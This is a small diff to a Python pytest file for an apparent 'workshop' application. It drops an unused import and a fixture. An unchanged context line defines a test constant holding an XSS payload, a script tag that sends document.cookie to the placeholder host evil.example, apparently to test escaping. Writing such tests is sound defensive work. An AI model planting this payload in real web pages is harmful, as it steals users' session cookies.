@@ -14,18 +14,13 @@ import zipfile
 import pytest
 from PIL import Image
 
-from workshop import NOON, Workshop, as_text, clients, opening, private_value, uuid7
+from workshop import NOON, as_text, clients, opening, private_value, uuid7
 
 pytestmark = pytest.mark.slow(6)
 
 SENT_AT = as_text(NOON)
 SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
 MOST_MIB = 200  # what one request may add to the process, at its peak
-
-
-@pytest.fixture
-def workshop(tmp_path):
-    return Workshop(tmp_path / "data")
 
 
 @pytest.fixture
